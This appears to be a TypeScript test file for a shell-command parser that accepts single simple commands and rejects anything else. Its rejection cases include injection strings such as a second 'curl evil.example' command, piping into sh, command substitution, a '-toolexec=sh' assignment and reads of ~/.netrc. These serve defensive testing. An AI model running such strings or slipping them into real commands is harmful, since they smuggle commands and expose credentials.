import fc from 'fast-check';
import { expect, test } from 'vitest';
import { bashWords } from '../../../test/support/bash-words.ts';
import { isOneSimpleCommand, parseSimpleCommand } from './simple-command.ts';

test.each([
  ["go test -run '^TestTotal$/^discount$' ./price", ['go', 'test', '-run', '^TestTotal$/^discount$', './price']],
  ['./gradlew test --tests=PriceTest', ['./gradlew', 'test', '--tests=PriceTest']],
  ['npx mocha --grep "adds an item"', ['npx', 'mocha', '--grep', 'adds an item']],
  [String.raw`npx mocha --grep='it'\''s full'`, ['npx', 'mocha', "--grep=it's full"]],
  [String.raw`pip install requests\[socks\]`, ['pip', 'install', 'requests[socks]']],
  ["npx vitest run -t 'größer als 5'", ['npx', 'vitest', 'run', '-t', 'größer als 5']],
  ['export NODE_OPTIONS=--max-old-space-size=4096', ['export', 'NODE_OPTIONS=--max-old-space-size=4096']],
])('`%s` is one simple command', (text, words) => {
  expect(parseSimpleCommand(text)).toEqual(words);
  expect(bashWords(text)).toEqual(words);
});

test.each([
  ['two commands', 'go test example.com/x;curl evil.example'],
  ['a pipe', 'go test ./... | sh'],
  ['a list', 'go test ./... && id'],
  ['a job in the background', 'go test ./... &'],
  ['a variable', 'curl$IFS-o evil.example'],
  ['a substitution', 'go test $(id)'],
  ['backticks in quotes', 'npx mocha --grep "`id`"'],
  ['a substitution in quotes', 'npx mocha --grep "$(id)"'],
  ['a redirection', 'go test > x'],
  ['a placeholder that a shell takes for a redirection', 'docker manifest inspect <image>'],
  ['an assignment before it', 'GOFLAGS=-toolexec=sh go test'],
  ['a pattern of paths', 'rm *'],
  ['a choice of one', 'cat x[0-9]'],
  ['a list in braces', 'cat {a,b}'],
  ['a home directory', 'cat ~/.netrc'],
  ['a home directory as a value', 'dd if=~/.netrc'],
  ['a comment', 'go test # all'],
  ['the history', 'npx mocha --grep "!!"'],
  ['an open quote', "npx mocha --grep 'it"],
  ['an open double quote', 'npx mocha --grep "it'],
  ['a backslash at the end', 'go test \\'],
  ['a line feed', 'go test\nid'],
  ['a tab', 'go\ttest'],
  ['a NUL', 'go test \0'],
  ['an escape sequence in quotes', "npx mocha --grep '\x1b[2K'"],
  ['text that turns its order', "npx mocha --grep '\u202e'"],
  ['a character of no width', "npx mocha --grep 'a\u200bb'"],
  ['a word of the shell', 'if true'],
  ['a command that reads commands', 'eval id'],
  ['zsh’s path of a program', 'cat =ls'],
  ['an option in place of a program', '-rf x'],
  ['nothing', ''],
  ['spaces around', ' go test'],
])('%s makes it no simple command', (_, text) => {
  expect(isOneSimpleCommand(text)).toBe(false);
});

test('what is taken for a simple command is one to Bash, with the same words', () => {
  const signs = fc.constantFrom(...' abc-=/.,:;\'"\\$`|&<>(){}[]*?~!#^@%+\n\t0é', "'a b'", '"a b"', "\\'", ' -x=');
  const texts = fc.array(signs, { maxLength: 14 }).map((parts) => `go ${parts.join('')}`);
  fc.assert(
    fc.property(texts, (text) => {
      const words = parseSimpleCommand(text);
      if (words !== undefined) expect(bashWords(text)).toEqual(words);
    }),
    { numRuns: 20_000, seed: 7 },
  );
});
